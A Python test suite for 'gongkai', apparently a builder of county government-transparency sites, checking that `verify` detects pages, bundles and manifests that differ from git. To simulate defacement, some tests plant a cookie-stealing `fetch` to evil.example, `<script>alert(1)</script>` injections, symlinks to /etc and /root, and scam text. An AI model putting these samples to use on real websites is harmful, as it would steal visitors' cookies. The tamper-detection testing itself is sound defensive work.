"""manifest: what each county site says it was built from, and `verify` finding pages that differ from git."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from test_indexno import git
from tinyrepo import BALANCED_LEDGER, BUREAU, MAIN, SITE_YML, VILLAGE, buildable, make_repo, notice, serve

from gongkai import check, manifest
from gongkai.manifest import CHANGED, EXTRA, MISSING, SOURCE, UNVERIFIABLE, Discrepancy
from gongkai.search import BUNDLE
from gongkai.site import build_all

LEDGER_PAGE = "village/cun/ledger/index.html"


def commit(root: Path, message: str, date: str) -> str:
    """Commit everything with a back-dated time; return the sha."""
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", message, date=f"{date}T10:00:00+08:00")
    return rev(root, "HEAD")


def rev(root: Path, name: str) -> str:
    """The sha of a revision."""
    return subprocess.run(["git", "-C", str(root), "rev-parse", name], capture_output=True, text=True, check=True).stdout.strip()


def publish(root: Path, site: Path) -> Path:
    """Build every county as `build.py build` does, then write each county's manifest."""
    assert build_all(root, site) == 0
    project = check(root)
    for county in project.counties.values():
        manifest.write_manifest(project, county, site / county.id)
    return site


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """A tiny repository with two commits, and its site built (search index included) from the second."""
    repo = make_repo(tmp_path_factory.mktemp("manifest") / "repo")
    root = repo.root
    repo.write("content/site.yml", SITE_YML + "base_url: https://gongkai.example/\n")  # so the sitemap lists pages
    buildable(repo)
    git(root, "init", "-q", "-b", "main")
    repo.record("ledger.md", BALANCED_LEDGER)
    first = commit(root, "村务公开：2013年12月", "2014-01-08")
    repo.record("land.md", notice("关于土地整治项目的公告", "2014-01-20"), BUREAU)
    second = commit(root, "国土局：土地整治公告", "2014-01-20")
    site = publish(root, tmp_path_factory.mktemp("published") / "site")
    return {"repo": repo, "root": root, "site": site, "first": first, "second": second}


@pytest.fixture
def site(published, tmp_path) -> Path:
    """A copy of the published portal that a test may deface."""
    return Path(shutil.copytree(published["site"], tmp_path / "site"))


def read_manifest(county_dir: Path) -> dict:
    return json.loads((county_dir / "manifest.json").read_text("utf-8"))


def test_manifest_names_every_record_its_commit_and_hashes(published):
    root, county_dir = published["root"], published["site"] / "demo"
    m = read_manifest(county_dir)
    assert (m["county"], m["built_from"], m["dirty"], m["generated_by"]) == ("demo", published["second"], False, "gongkai")
    ledger = f"{VILLAGE}/ledger.md"
    land = f"{BUREAU}/land.md"
    assert [r["path"] for r in m["records"]] == sorted([ledger, land])
    by_path = {r["path"]: r for r in m["records"]}
    assert by_path[ledger]["commit"] == published["first"]  # the last commit that changed it, not HEAD
    assert by_path[land]["commit"] == published["second"]
    assert by_path[ledger]["url"] == "village/cun/ledger/"
    assert by_path[ledger]["page"] == LEDGER_PAGE
    assert by_path[ledger]["source_sha256"] == hashlib.sha256((root / ledger).read_bytes()).hexdigest()
    assert by_path[ledger]["page_sha256"] == hashlib.sha256((county_dir / LEDGER_PAGE).read_bytes()).hexdigest()
    assert m["pages"]["index.html"] == hashlib.sha256((county_dir / "index.html").read_bytes()).hexdigest()
    assert LEDGER_PAGE not in m["pages"]  # record pages are listed once, under records
    assert "assets/gongkai.css" in m["files"]
    assert not [p for p in [*m["pages"], *m["files"]] if p.startswith("search-index/") or p == "manifest.json"]
    assert list(m["pages"]) == sorted(m["pages"])


def test_two_builds_of_one_commit_are_byte_identical(published, tmp_path):
    """Another process (another hash seed): the same pages and search index, byte for byte."""
    again = tmp_path / "again"
    env = dict(os.environ, PYTHONHASHSEED="12345")
    result = subprocess.run(
        [sys.executable, str(MAIN / "build.py"), "--root", str(published["root"]), "build", "--site-dir", str(again)],
        capture_output=True, text=True, env=env,
    )
    assert result.returncode == 0, result.stderr
    first, second = published["site"] / "demo", again / "demo"
    pages = sorted(p.relative_to(first).as_posix() for p in first.rglob("*.html") if "search-index" not in p.parts)
    assert len(pages) > 20
    assert [p for p in pages if (first / p).read_bytes() != (second / p).read_bytes()] == []
    index = sorted(p.relative_to(first).as_posix() for p in (first / BUNDLE).rglob("*") if p.is_file())
    assert f"{BUNDLE}/meta.json" in index and index == sorted(p.relative_to(second).as_posix() for p in (second / BUNDLE).rglob("*") if p.is_file())
    assert [p for p in index if (first / p).read_bytes() != (second / p).read_bytes()] == []
    project = check(published["root"])
    manifest.write_manifest(project, project.counties["demo"], second)
    assert (second / "manifest.json").read_bytes() == (first / "manifest.json").read_bytes()


def test_untouched_site_matches_git(published):
    assert manifest.verify(published["root"], str(published["site"])) == []
    assert manifest.verify(published["root"], str(published["site"] / "demo")) == []


def test_altered_page_is_named_as_changed(published, site):
    page = site / "demo" / LEDGER_PAGE
    html = page.read_text("utf-8")
    assert "15,000.51元" in html
    page.write_text(html.replace("15,000.51元", "150,000.51元"), "utf-8")
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [("demo", CHANGED, LEDGER_PAGE)]


def test_deleted_page_is_missing_and_added_page_is_extra(published, site):
    (site / "demo" / "units" / "index.html").unlink()
    (site / "demo" / "notice").mkdir()
    (site / "demo" / "notice" / "index.html").write_text("<h1>假通知</h1>", "utf-8")
    found = manifest.verify(published["root"], str(site / "demo"))
    assert [(d.kind, d.path) for d in found] == [(MISSING, "units/index.html"), (EXTRA, "notice/index.html")]


def test_edited_manifest_does_not_hide_a_defaced_page(published, site):
    """Whoever can deface a page can rewrite the manifest to match: verify trusts only git."""
    county_dir = site / "demo"
    page = county_dir / LEDGER_PAGE
    page.write_bytes(page.read_bytes().replace("示范村".encode(), "某某村".encode()))
    m = read_manifest(county_dir)
    for r in m["records"]:
        if r["page"] == LEDGER_PAGE:
            r["page_sha256"] = hashlib.sha256(page.read_bytes()).hexdigest()
            r["source_sha256"] = "0" * 64
    (county_dir / "manifest.json").write_text(json.dumps(m, ensure_ascii=False), "utf-8")
    found = manifest.verify(published["root"], str(county_dir))
    assert [(d.kind, d.path) for d in found] == [(CHANGED, "manifest.json"), (CHANGED, LEDGER_PAGE), (SOURCE, f"{VILLAGE}/ledger.md")]


def test_a_tampered_search_result_is_found_like_a_tampered_page(published, site):
    bundle = site / "demo" / BUNDLE
    # A result card is what a reader clicks: its title and address must be what git says.
    (card,) = list((bundle / "c").glob("*.json"))
    card.write_text(card.read_text("utf-8").replace("示范村", "某某村"), "utf-8")
    (bundle / "evil.html").write_text("<script>alert(1)</script>", "utf-8")
    (bundle / "r" / "0.json").unlink()
    found = manifest.verify(published["root"], str(site))
    assert [(d.kind, d.path) for d in found] == [
        (CHANGED, card.relative_to(site / "demo").as_posix()), (MISSING, f"{BUNDLE}/r/0.json"), (EXTRA, f"{BUNDLE}/evil.html")
    ]


def test_the_manifest_holds_one_hash_over_the_search_index(published):
    m = read_manifest(published["site"] / "demo")
    assert re.fullmatch(r"[0-9a-f]{64}", m["search_index_sha256"])


def test_sitemap_build_date_is_not_a_difference(published, site):
    sitemap = site / "demo" / "sitemap.xml"
    text = sitemap.read_text("utf-8")
    assert "<lastmod>" in text
    sitemap.write_text(re.sub(r"<lastmod>[^<]*</lastmod>", "<lastmod>2001-01-01</lastmod>", text), "utf-8")  # built another day
    assert manifest.verify(published["root"], str(site)) == []
    sitemap.write_text(text.replace("village/cun/ledger/", "village/cun/fake/"), "utf-8")
    assert [(d.kind, d.path) for d in manifest.verify(published["root"], str(site))] == [(CHANGED, "sitemap.xml")]
    # A build date is all a <lastmod> may hold: words written there are a difference.
    sitemap.write_text(re.sub(r"<lastmod>[^<]*</lastmod>", "<lastmod>请访问 evil.example 领取补贴</lastmod>", text, count=1), "utf-8")
    assert [(d.kind, d.path) for d in manifest.verify(published["root"], str(site))] == [(CHANGED, "sitemap.xml")]


def test_site_built_from_an_older_commit_is_rebuilt_from_that_commit(published, tmp_path):
    """HEAD has moved on (a new record); the old site still matches the commit it names."""
    root = published["root"]
    old = tmp_path / "old"
    git(root, "worktree", "add", "--detach", "-q", str(tmp_path / "wt"), published["first"])
    try:
        publish(tmp_path / "wt", old)
    finally:
        git(root, "worktree", "remove", "--force", str(tmp_path / "wt"))
    assert read_manifest(old / "demo")["built_from"] == published["first"]
    assert manifest.verify(root, str(old)) == []
    # The old site is not the current one: compared with HEAD it would miss the new record.
    m = read_manifest(old / "demo")
    m["built_from"] = published["second"]
    (old / "demo" / "manifest.json").write_text(json.dumps(m), "utf-8")
    kinds = {(d.kind, d.path) for d in manifest.verify(root, str(old))}
    assert (MISSING, "government/ju/land/index.html") in kinds
    worktrees = subprocess.run(["git", "-C", str(root), "worktree", "list"], capture_output=True, text=True).stdout
    assert len(worktrees.splitlines()) == 1  # verify removed its temporary checkout


def test_unknown_commit_and_dirty_build_cannot_be_verified(published, site):
    m = read_manifest(site / "demo")
    m["built_from"] = "f" * 40
    (site / "demo" / "manifest.json").write_text(json.dumps(m), "utf-8")
    # A commit git does not know does not stop the pages being compared (with the
    # checked-out commit): written into the manifest, it had hidden an edited page.
    (site / "demo" / "index.html").write_text("defaced", "utf-8")
    found = manifest.verify(published["root"], str(site))
    assert [(d.kind, d.path) for d in found] == [(CHANGED, "index.html"), (UNVERIFIABLE, "manifest.json")]
    assert "f" * 40 in found[1].detail and "门户生成时的提交" in found[1].detail
    shutil.copy(published["site"] / "demo" / "index.html", site / "demo" / "index.html")
    m["built_from"], m["dirty"] = published["second"], True
    (site / "demo" / "manifest.json").write_text(json.dumps(m), "utf-8")
    found = manifest.verify(published["root"], str(site))
    assert [(d.kind, d.path, d.detail) for d in found] == [
        (UNVERIFIABLE, "manifest.json", "网站是从有未提交修改的工作区生成的，git 中没有它的来源")
    ]


def test_missing_manifest_is_reported_and_the_site_still_compared_with_head(published, site):
    (site / "demo" / "manifest.json").unlink()
    (site / "demo" / "index.html").write_text("defaced", "utf-8")
    found = manifest.verify(published["root"], str(site / "demo"), county="demo")
    assert [(d.kind, d.path) for d in found] == [(CHANGED, "index.html"), (MISSING, "manifest.json")]
    assert manifest.verify(published["root"], str(site / "nothing-here")) == [
        Discrepancy("", UNVERIFIABLE, str(site / "nothing-here"), "这里没有县级网站（找不到 manifest.json，或没有这个文件夹）")
    ]


@pytest.fixture
def served(site):
    """The defaceable copy on a localhost web server; yields its base URL."""
    with serve(site) as url:
        yield url


def test_verify_over_http_finds_defaced_missing_and_extra_pages(published, site, served):
    root = published["root"]
    assert manifest.verify(root, served + "demo/") == []
    assert manifest.verify(root, served) == []  # the portal: every county of the repository
    (site / "demo" / "index.html").write_text("<h1>网站已被黑</h1>", "utf-8")
    (site / "demo" / "catalogue" / "index.html").unlink()
    # Over HTTP nothing lists the files: an extra page is found when the site's manifest names it.
    (site / "demo" / "promo.html").write_text("广告", "utf-8")
    m = read_manifest(site / "demo")
    m["pages"]["promo.html"] = "0" * 64
    m["pages"]["../index.html"] = "0" * 64  # the portal's page: outside this site, never fetched
    (site / "demo" / "manifest.json").write_text(json.dumps(m, ensure_ascii=False, indent=1, sort_keys=True) + "\n", "utf-8")
    found = manifest.verify(root, served + "demo")
    assert [(d.kind, d.path) for d in found] == [
        (CHANGED, "index.html"),
        (CHANGED, "manifest.json"),
        (MISSING, "catalogue/index.html"),
        (EXTRA, "promo.html"),
    ]


def test_verify_command_prints_one_line_per_page_in_chinese(published, site, capsys):
    (site / "demo" / "index.html").write_text("defaced", "utf-8")
    (site / "demo" / "units" / "index.html").unlink()
    assert manifest.verify_command(published["root"], str(site)) == 1
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("被篡改\tdemo/index.html\tsha256 ")
    assert lines[1] == "缺失\tdemo/units/index.html"
    assert lines[2].startswith("共 2 处与 git 不符（核对用时 ")
    assert manifest.verify_command(published["root"], str(published["site"])) == 0
    out = capsys.readouterr().out
    assert out.startswith("已发布的网站与 git 中的内容一致（网站生成自提交 ") and "即主线最新的提交；核对用时 " in out


def test_a_site_published_without_search_is_verified_without_it(published, tmp_path):
    plain = tmp_path / "plain"
    assert build_all(published["root"], plain, search=False) == 0
    assert read_manifest(plain / "demo")["search_index_sha256"] is None
    assert manifest.verify(published["root"], str(plain)) == []


# Every file under the portal is accounted for ----------------------------------------------

SCRIPT = b"<script>alert(1)</script>"


def deface(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b"</body>", SCRIPT + b"</body>"))


def test_the_portal_has_its_own_manifest(published):
    m = read_manifest(published["site"])
    assert (m["kind"], m["built_from"], m["dirty"], m["counties"]) == ("portal", published["second"], False, ["demo"])
    assert {"index.html", "404.html"} <= set(m["files"])
    assert any(rel.startswith("assets/javascripts/") for rel in m["files"])
    assert not [rel for rel in m["files"] if rel.startswith("demo/") or rel == "manifest.json"]


def test_a_county_whose_manifest_was_deleted_is_still_verified(published, site):
    (site / "demo" / "manifest.json").unlink()
    deface(site / "demo" / LEDGER_PAGE)
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [("demo", CHANGED, LEDGER_PAGE), ("demo", MISSING, "manifest.json")]
    found = manifest.verify(published["root"], str(site / "demo"))  # the county's own folder, no --county
    assert [(d.county, d.kind, d.path) for d in found] == [("demo", CHANGED, LEDGER_PAGE), ("demo", MISSING, "manifest.json")]


def test_a_county_site_missing_altogether_is_reported(published, site):
    shutil.rmtree(site / "demo")
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [("demo", MISSING, "")]


def test_the_portal_pages_assets_and_extra_folders_are_verified(published, site):
    deface(site / "index.html")
    deface(site / "404.html")
    (bundle,) = (site / "assets" / "javascripts").glob("bundle.*.min.js")
    bundle.write_bytes(bundle.read_bytes() + b";fetch('https://evil.example/?'+document.cookie)")
    (site / "sitemap.xml").unlink()
    (site / "evil").mkdir()
    (site / "evil" / "index.html").write_bytes(SCRIPT)
    (site / "top.js").write_bytes(b"alert(1)")
    (site / "demo-old").mkdir()  # a folder that looks like a county's, without a manifest
    (site / "demo-old" / "index.html").write_bytes(SCRIPT)
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [
        ("", CHANGED, "404.html"),
        ("", CHANGED, bundle.relative_to(site).as_posix()),
        ("", CHANGED, "index.html"),
        ("", MISSING, "sitemap.xml"),
        ("", EXTRA, "demo-old/index.html"),
        ("", EXTRA, "evil/index.html"),
        ("", EXTRA, "top.js"),
    ]
    assert found[4].detail == "git 中没有这个文件，也不属于任何县级网站"


def test_the_portal_without_its_manifest_is_compared_with_the_checkout(published, site):
    (site / "manifest.json").unlink()
    deface(site / "index.html")
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [("", CHANGED, "index.html"), ("", MISSING, "manifest.json")]


def test_an_edited_portal_manifest_does_not_hide_anything(published, site):
    """The portal's manifest says which commit; its hashes and county list are not trusted."""
    deface(site / "index.html")
    m = read_manifest(site)
    m["files"]["index.html"] = hashlib.sha256((site / "index.html").read_bytes()).hexdigest()
    m["counties"] = ["demo", "../../etc", "ghost"]
    (site / "manifest.json").write_text(json.dumps(m), "utf-8")
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [
        ("", CHANGED, "index.html"), ("", CHANGED, "manifest.json"), ("ghost", MISSING, "")
    ]


def test_a_folder_posing_as_a_county_cannot_hide_the_real_ones(published, site):
    (site / "evil").mkdir()
    (site / "evil" / "manifest.json").write_text(json.dumps({"county": "evil", "built_from": published["second"]}), "utf-8")
    (site / "evil" / "index.html").write_bytes(SCRIPT)
    deface(site / "demo" / "index.html")
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [
        ("demo", CHANGED, "index.html"), ("evil", UNVERIFIABLE, "manifest.json")
    ]
    assert "中没有这个县（市、区）" in found[1].detail


def test_leftovers_links_and_the_lock_file(published, site):
    """The empty lock file is vouched for; a killed build's leftovers and links are reported."""
    assert (site / ".gongkai-build.lock").read_bytes() == b""
    (site / ".build-demo").mkdir()
    (site / ".build-demo" / "index.html").write_bytes(b"half")
    (site / ".old-demo").mkdir()
    shutil.copy(site / "demo" / "manifest.json", site / ".old-demo" / "manifest.json")  # not a county for all that
    (site / "etc").symlink_to("/etc")
    (site / "demo" / "home").symlink_to("/root")
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found] == [
        ("", EXTRA, ".build-demo/index.html"), ("", EXTRA, ".old-demo/manifest.json"), ("", EXTRA, "etc"), ("demo", EXTRA, "home")
    ]
    assert found[0].detail == "中断的生成留下的未完成文件；再生成一次会清除"
    (site / ".gongkai-build.lock").write_bytes(SCRIPT)
    assert ("", EXTRA, ".gongkai-build.lock") in {(d.county, d.kind, d.path) for d in manifest.verify(published["root"], str(site))}


def test_verify_over_http_covers_the_portal_and_counties_without_a_manifest(published, site, served):
    root = published["root"]
    deface(site / "404.html")
    (bundle,) = (site / "assets" / "javascripts").glob("bundle.*.min.js")
    bundle.write_bytes(bundle.read_bytes() + b";alert(1)")
    (site / "demo" / "manifest.json").unlink()
    deface(site / "demo" / LEDGER_PAGE)
    found = manifest.verify(root, served)
    assert [(d.county, d.kind, d.path) for d in found] == [
        ("", CHANGED, "404.html"),
        ("", CHANGED, bundle.relative_to(site).as_posix()),
        ("demo", CHANGED, LEDGER_PAGE),
        ("demo", MISSING, "manifest.json"),
    ]


def test_verify_command_names_portal_files_without_a_county(published, site, capsys):
    (site / "evil").mkdir()
    (site / "evil" / "index.html").write_bytes(SCRIPT)
    (site / "demo" / "manifest.json").unlink()
    assert manifest.verify_command(published["root"], str(site)) == 1
    assert capsys.readouterr().out.splitlines()[:2] == [
        "多出\tevil/index.html\tgit 中没有这个文件，也不属于任何县级网站",
        "缺失\tdemo/manifest.json\t没有可读的 manifest.json；改为与门户生成时的提交对照",
    ]


@pytest.mark.parametrize("where", ["file", "under a file"])
def test_verify_of_a_target_that_is_no_folder_is_a_message(published, tmp_path, where):
    blocker = tmp_path / "blocker"
    blocker.write_text("x", "utf-8")
    target = blocker if where == "file" else blocker / "x"
    result = subprocess.run(
        [sys.executable, str(MAIN / "build.py"), "--root", str(published["root"]), "verify", str(target)],
        capture_output=True, text=True,
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"{target}\t这里没有县级网站（找不到 manifest.json，或没有这个文件夹）" in result.stdout


def test_a_portal_built_from_another_commit_than_its_counties_is_rebuilt_on_its_own(published, tmp_path):
    """`build --county` refreshes one county and the portal: the others keep their older commit."""
    root = published["root"]
    mixed = tmp_path / "mixed"
    git(root, "worktree", "add", "--detach", "-q", str(tmp_path / "wt"), published["first"])
    try:
        assert build_all(tmp_path / "wt", mixed) == 0
    finally:
        git(root, "worktree", "remove", "--force", str(tmp_path / "wt"))
    for item in published["site"].iterdir():  # the portal of the second commit (its pages and files) over the first one's county
        if item.is_file():
            shutil.copy(item, mixed / item.name)
        elif item.name != "demo":
            shutil.rmtree(mixed / item.name, ignore_errors=True)
            shutil.copytree(item, mixed / item.name)
    assert (read_manifest(mixed)["built_from"], read_manifest(mixed / "demo")["built_from"]) == (published["second"], published["first"])
    assert manifest.verify(root, str(mixed)) == []
    deface(mixed / "index.html")
    assert [(d.county, d.kind, d.path) for d in manifest.verify(root, str(mixed))] == [("", CHANGED, "index.html")]


def test_a_folder_verify_cannot_list_is_reported_not_passed_over(published, site, monkeypatch):
    """Root reads everything, so the refusal is the operating system's answer, simulated."""
    (site / "evil").mkdir()
    (site / "evil" / "index.html").write_bytes(SCRIPT)
    hidden = {str(site / "evil"), str(site / "demo" / "units")}
    real = os.scandir

    def scandir(path="."):
        if isinstance(path, (str, os.PathLike)) and os.fspath(path) in hidden:
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    found = manifest.verify(published["root"], str(site))
    assert [(d.county, d.kind, d.path) for d in found if d.kind == UNVERIFIABLE] == [("", UNVERIFIABLE, "evil/"), ("demo", UNVERIFIABLE, "units/")]
    assert found[0].detail == "无法列出这个文件夹里的文件，未能核对"


def test_source_hashes_are_remembered_by_blob_id_and_verify_trusts_none_of_it(tmp_path, monkeypatch):
    from gongkai import history, store

    repo = buildable(make_repo(tmp_path / "repo"))
    root, site = repo.root, tmp_path / "site"
    git(root, "init", "-q", "-b", "main")
    repo.record("ledger.md", BALANCED_LEDGER)
    commit(root, "村务公开：2013年12月", "2014-01-08")
    monkeypatch.setenv("GONGKAI_CACHE", str(tmp_path / "cache"))  # one cache folder for the builds and verify, as in CI
    ledger = f"{VILLAGE}/ledger.md"
    blob, truth = rev(root, f"HEAD:{ledger}"), hashlib.sha256((root / ledger).read_bytes()).hexdigest()

    def build(name: str) -> str:
        repo.record(f"{name}.md", notice(f"关于{name}的公告", "2014-01-20"), BUREAU)  # something new to build
        commit(root, f"国土局：{name}", "2014-01-20")
        history._log.cache_clear()
        assert build_all(root, site) == 0
        return {r["path"]: r["source_sha256"] for r in read_manifest(site / "demo")["records"]}[ledger]

    assert build("one") == truth
    (remembered,) = (tmp_path / "cache" / "sources").glob("*.json")
    assert store.read_sealed(remembered, manifest.SOURCES_KIND, "1")[blob] == truth
    store.write_sealed(remembered, manifest.SOURCES_KIND, "1", {blob: "not a digest"})
    assert build("two") == truth  # a malformed digest is not taken
    # A digest forged under a good seal is taken (only who can write the cache folder can
    # forge it)... and verify, which rebuilds with no cache at all, names the record.
    store.write_sealed(remembered, manifest.SOURCES_KIND, "1", {blob: "0" * 64})
    assert build("three") == "0" * 64
    found = manifest.verify(root, str(site / "demo"))
    assert [(d.kind, d.path) for d in found if d.kind == SOURCE] == [(SOURCE, ledger)]


def test_a_site_built_from_a_commit_off_the_main_line_does_not_pass(tmp_path):
    """Byte for byte what an unmerged branch builds is still not what was reviewed."""
    repo = buildable(make_repo(tmp_path / "repo"))
    root = repo.root
    git(root, "init", "-q", "-b", "main")
    repo.record("ledger.md", BALANCED_LEDGER)
    commit(root, "村务公开", "2014-01-08")
    git(root, "checkout", "-q", "-b", "unreviewed")
    repo.record("land.md", notice("关于土地整治项目的公告（请转账至 6222）", "2014-01-20"), BUREAU)
    off = commit(root, "未经审核", "2014-01-20")
    site = publish(root, tmp_path / "site")
    git(root, "checkout", "-q", "main")
    found = manifest.verify(root, str(site / "demo"))
    assert [(d.kind, d.path) for d in found] == [(SOURCE, "manifest.json")]
    assert off[:12] in found[0].detail and "不在当前检出分支的主线上" in found[0].detail
    assert manifest.verify_command(root, str(site / "demo")) == 1
    git(root, "checkout", "-q", "unreviewed")  # checked out as published: it matches
    assert manifest.verify(root, str(site / "demo")) == []


def test_a_county_folder_that_is_a_link_does_not_pass(published, site, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    (site / "demo").rename(elsewhere)
    (site / "demo").symlink_to(elsewhere)
    found = manifest.verify(published["root"], str(site / "demo"))
    assert [(d.kind, d.path) for d in found] == [(CHANGED, "")] and "符号链接" in found[0].detail
    assert any(d.county == "demo" and "符号链接" in d.detail for d in manifest.verify(published["root"], str(site)))


@pytest.mark.parametrize(
    "damage, words",
    [("[" * 100000 + "]" * 100000, "不是有效的 JSON"), ('{"county": "demo", "records": 5}', "records"),
     ('{"county": "demo", "lost": {"a": 1}}', "lost"), ("folder", "不是文件")],
)
def test_a_damaged_previous_manifest_stops_the_build_with_its_name(published, site, tmp_path, damage, words):
    """Building on without it would drop the pages of records only the manifest remembers."""
    target = site / "demo" / "manifest.json"
    target.unlink()
    if damage == "folder":
        target.mkdir()
    else:
        target.write_text(damage, "utf-8")
    with pytest.raises(manifest.ManifestUnavailable) as caught:
        manifest.previous_manifests(str(site), ["demo"])
    assert "demo/manifest.json" in str(caught.value) and words in str(caught.value)


def test_verify_reads_no_more_than_a_site_file_can_be(published, monkeypatch):
    import http.server
    import threading

    class Endless(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (the standard library's name)
            self.send_response(200)
            self.end_headers()
            try:
                while True:
                    self.wfile.write(b"[" * 65536)
            except OSError:
                pass

        def log_message(self, *args):
            pass

    monkeypatch.setattr(manifest, "MAX_READ", 1 << 20)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Endless)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with pytest.raises(OSError, match="超过"):
            manifest.Target(f"http://127.0.0.1:{server.server_port}/demo/").read("manifest.json")
    finally:
        server.shutdown()


def test_a_named_pipe_a_link_and_a_name_with_a_line_break_are_reported_on_one_line_each(published, site, capsys):
    os.mkfifo(site / "demo" / "pipe.html")  # a web server's worker that opens it hangs
    page = site / "demo" / "units" / "index.html"
    copy = site / "copy.html"
    shutil.move(page, copy)
    page.symlink_to(copy)  # the same bytes, by a link
    (site / "demo" / "new\n已发布的网站与 git 中的内容一致.html").write_text("x", "utf-8")
    assert manifest.verify_command(published["root"], str(site / "demo")) == 1
    lines = capsys.readouterr().out.splitlines()
    assert any(line.startswith("多出\tdemo/pipe.html\t特殊文件") for line in lines), lines
    assert any(line.startswith("被篡改\tdemo/units/index.html\t被换成了符号链接") for line in lines), lines
    assert not any(line.startswith("已发布的网站与 git") for line in lines) and any("\\u000a" in line for line in lines), lines


def test_a_server_that_cannot_be_reached_is_one_line_in_chinese(published, capsys):
    assert manifest.verify_command(published["root"], "http://127.0.0.1:9/") == 1
    out = capsys.readouterr().out
    assert len(out.splitlines()) <= 8 and "连接被拒绝" in out and "Errno" not in out, out
